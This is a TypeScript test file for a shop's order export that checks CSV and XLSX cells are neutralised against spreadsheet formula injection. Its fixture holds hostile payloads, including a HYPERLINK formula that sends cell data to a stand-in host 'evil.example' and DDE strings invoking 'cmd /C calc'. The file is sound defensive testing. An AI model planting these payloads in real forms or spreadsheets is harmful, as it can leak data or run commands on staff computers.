// Text a shopper typed reaches the shop team's spreadsheet as text, never as a formula (CSV
// injection): the export neutralises every text cell a spreadsheet would evaluate.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { inertCell, inertText } from '../src/lib/spreadsheet-cell.ts';
import { adminSession } from './helpers/admin.ts';
import { useTestApp } from './helpers/app.ts';
import { guestCheckout, guestShopper } from './helpers/checkout.ts';
import { addCartLine, createProduct } from './helpers/factories.ts';

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  depositor: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone: "+1+1+cmd|' /C calc'!A0",
  street: "-2+3+cmd|' /C calc'!A0",
  city: '\t=1+1',
  product: '=1+1 Kimchi',
  detail: '=1+2 101동',
  recipient: '@Recipient',
};
const FORMULA_START = /^[=+\-@\t\r]/;

describe('the formula guard', () => {
  it('quotes text a spreadsheet would evaluate and leaves other text alone', () => {
    for (const text of ['=1+1', '+82 10', '-1', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(inertText(text)).toBe(`'${text}`);
    }
    expect(inertText('Kim Minji')).toBe('Kim Minji');
    expect(inertText('010-1234-5678')).toBe('010-1234-5678');
    expect(inertText('')).toBe('');
  });

  it('keeps numbers numbers, negative ones too', () => {
    expect(inertCell(-5_000)).toBe(-5_000);
    expect(inertCell(12_000)).toBe(12_000);
  });
});

describe('exporting orders with hostile text', () => {
  const ctx = useTestApp({ RATE_LIMIT_ENABLED: 'false' });
  let headers: Record<string, string>;

  beforeAll(async () => {
    headers = (await adminSession(ctx.app, ctx.db)).headers;
    const product = await createProduct(ctx.db, { name: HOSTILE.product, sellPrice: 12_000 });
    const guest = await guestShopper(ctx.app, ctx.db);
    await addCartLine(ctx.db, guest.owner, product.id, 2);
    const res = await guestCheckout(ctx.app, guest, {
      name: HOSTILE.name,
      first_name: undefined,
      last_name: undefined,
      address: {
        street: HOSTILE.street,
        address_detail: HOSTILE.detail,
        city: HOSTILE.city,
        postal_code: '04524',
      },
      recipient: { name: HOSTILE.recipient, phone: '010-5555-6666' },
      payment_method: 'account_transfer',
      depositor_name: HOSTILE.depositor,
    });
    expect(res.statusCode, res.body).toBe(201);
    // Checkout now refuses such a phone; an order stored before that rule may still carry one.
    await ctx.db.order.updateMany({ data: { customerPhone: HOSTILE.phone } });
    const order = await ctx.db.order.findFirstOrThrow({ select: { customerName: true } });
    // The hostile text is stored as typed: the guard belongs to the export, not the order.
    expect(order.customerName).toBe(HOSTILE.name);
  });

  it('writes no CSV cell that starts a formula', async () => {
    const res = await ctx.app.inject({
      method: 'GET',
      url: '/api/admin/orders/export?format=csv',
      headers,
    });
    expect(res.statusCode).toBe(200);
    const rows: string[][] = parse(res.rawPayload.subarray(3).toString('utf8'));
    expect(rows).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    const row = rows[1]!;
    expect(row).toContain(`'${HOSTILE.name}`);
    expect(row).toContain(`'${HOSTILE.depositor}`);
    expect(row).toContain(`'${HOSTILE.phone}`);
    expect(row).toContain(`'${HOSTILE.product}`);
    expect(row.find((cell) => cell.includes(HOSTILE.street))).toMatch(/^'-2\+3/);
    expect(row).toContain(`'${HOSTILE.detail}`);
    expect(row).toContain(`'${HOSTILE.recipient}`);
  });

  it('writes no XLSX formula and no text cell that starts one; amounts stay numbers', async () => {
    const res = await ctx.app.inject({
      method: 'GET',
      url: '/api/admin/orders/export?format=xlsx',
      headers,
    });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(2);
    const texts: string[] = [];
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeFalsy();
        if (typeof cell.value === 'string') texts.push(cell.value);
      });
    });
    for (const text of texts) expect(text).not.toMatch(FORMULA_START);
    expect(texts).toContain(`'${HOSTILE.name}`);
    expect(texts).toContain(`'${HOSTILE.depositor}`);
    expect(texts).toContain(`'${HOSTILE.phone}`);
    // Unit price, quantity, line total and order total.
    const row = sheet.getRow(2);
    expect(row.getCell(18).value).toBe(12_000);
    expect(row.getCell(19).value).toBe(2);
    expect(row.getCell(20).value).toBe(24_000);
    expect(typeof row.getCell(26).value).toBe('number');
  });
});
